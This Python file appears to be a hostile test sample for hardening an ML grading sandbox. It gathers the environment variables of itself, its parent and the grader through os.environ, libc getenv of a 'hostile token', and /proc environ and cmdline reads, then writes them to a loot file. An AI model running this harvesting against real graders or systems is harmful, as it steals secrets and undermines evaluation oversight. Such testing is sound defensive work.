"""Collects the environment of itself, of its ancestors and of the grader, and prints it.

Class: reading
Effect: loot
"""

# @TWIN@

import ctypes
import os

found = [repr(dict(os.environ))]
ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
found.append(repr(ctypes.CDLL(None).getenv(b"MLGRADE_HOSTILE_TOKEN")))
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for number in range(100):
    if not environ[number]:
        break
    found.append(repr(environ[number]))
for pid in {"self", int("@GRADER@"), os.getppid()}:
    for file in ("environ", "cmdline", "task/../environ"):
        try:
            found.append(open(f"/proc/{pid}/{file}").read())
        except OSError as error:
            found.append(type(error).__name__)
print("\n".join(found))
try:
    open("@LOOT@/environment", "w").write("\n".join(found))
except OSError:
    pass
